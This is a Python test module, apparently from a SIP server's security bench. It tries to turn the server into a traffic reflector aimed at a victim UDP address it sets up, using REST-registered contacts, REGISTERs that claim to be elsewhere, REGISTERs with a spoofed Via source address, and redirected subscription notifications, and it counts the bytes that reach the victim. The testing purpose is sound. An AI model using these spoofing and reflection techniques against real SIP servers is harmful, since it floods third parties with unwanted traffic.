"""The agent as somebody's weapon: it is told to send to an address that never asked for it. What arrives there is counted."""
import asyncio
import json
import socket

from phone import DOMAIN, Phone
from world import MIB, STRANGERS, VICTIM_AT, email

NAME = "reflector"
CONTACTS, BODY, SENDS_PER_S, SUBSCRIPTIONS, CHANGES_PER_S = 32, 1300, 2, 499, 5
TIMEOUT_S = 2.0
DATAGRAMS_EACH = 4  # two probes of two datagrams; then the address is left alone for five minutes
ALLOWED = STRANGERS * 4 * MIB


class Victim(asyncio.DatagramProtocol):
    """An address that never answers. The counts are the bench's, by names that it knows."""

    def __init__(self, s):
        self.s, self.transport, self.address = s, None, None

    def connection_made(self, transport):
        self.transport = transport
        self.s.closers.append(transport.abort)
        self.address = transport.get_extra_info("sockname")

    def datagram_received(self, data, _):
        self.s.count["victim: datagrams"] += 1
        self.s.count["victim: bytes"] += len(data)


async def tell(s, what, method, path, body, media="application/json"):
    """A request whose bytes are counted against what the victim gets."""
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    s.count["victim: bytes of the strangers"] += len(s.web.raw(method, path, body, media))
    await s.ask(what, method, path, body, media=media)


def uris_of(victim):
    return [f"sip:v{n}@{victim[0]}:{victim[1]}" for n in range(CONTACTS)]


async def at_rest(s, victim):
    """32 contacts that REST makes, at one address."""
    await tell(s, "contacts", "POST", "/login/me", [{"contact": uri} for uri in uris_of(victim)])


async def registered(s, phone, victim):
    """A phone of its own that says that it is elsewhere, without rport."""
    code = await phone.register(TIMEOUT_S, uris_of(victim), rport="")
    s.count[f"REGISTER elsewhere {code}"] += 1


async def spoofed(s, phone, victim):
    """REGISTERs from the victim's address with a nonce that was told to another."""
    await phone.register(TIMEOUT_S, expires=60)  # for the nonce
    here = victim.address
    contacts = "".join(f"Contact: <{uri}>\r\n" for uri in uris_of(here))
    raw, _ = phone.build("REGISTER", f"sip:{DOMAIN}", phone.aor, more=contacts)
    raw = raw.replace(f"UDP {phone.here[0]}:{phone.here[1]}".encode(), f"UDP {here[0]}:{here[1]}".encode())
    s.count["REGISTER spoofed"] += 1
    phone.sent_bytes += len(raw)
    victim.transport.sendto(raw, s.place.sip)


async def subscribed(s, phone, victim):
    """Subscriptions, half of them with the notifications for the victim, and changes of what they watch."""
    async def subscribe(i):
        uri = phone.contact() if s.n % 2 else f"sip:v{i}@{victim[0]}:{victim[1]}"
        s.count[f"SUBSCRIBE {await phone.subscribe(phone.aor, 'reg', uri, TIMEOUT_S)}"] += 1

    def change(i):
        return tell(s, "change", "POST", "/login/me", {"contact": f"sip:c{i % 16}@192.0.2.9", "expires": 600 + i})

    await s.repeat(4, subscribe, SUBSCRIPTIONS)
    await s.repeat(1, change, per_s=CHANGES_PER_S)


async def attack(s):
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sock.bind((VICTIM_AT.format(s.n + 1), 0))
    _, victim = await loop.create_datagram_endpoint(lambda: Victim(s), sock=sock)
    phone = await Phone.open(s.name, s.place.sip, s.source)
    s.closers.append(phone.close)
    if s.n in (0, 1):
        await at_rest(s, victim.address)
    elif s.n in (2, 3):
        await registered(s, phone, victim.address)
    elif s.n in (4, 5):
        await spoofed(s, phone, victim)
    else:
        await subscribed(s, phone, victim.address)
    if s.n < 6:
        await s.repeat(2, lambda _: tell(s, "SEND", "SEND", f"/login/{email(s.name)}", b"x" * BODY, media="text/plain"),
                       per_s=SENDS_PER_S)
    if s.n == 7:
        s.count["NOTIFYs to the subscriber itself"] += phone.got
        s.count["KB of these"] += phone.got_bytes // 1024
    s.count["victim: addresses"] += 1
    s.count["victim: bytes of the strangers"] += phone.sent_bytes
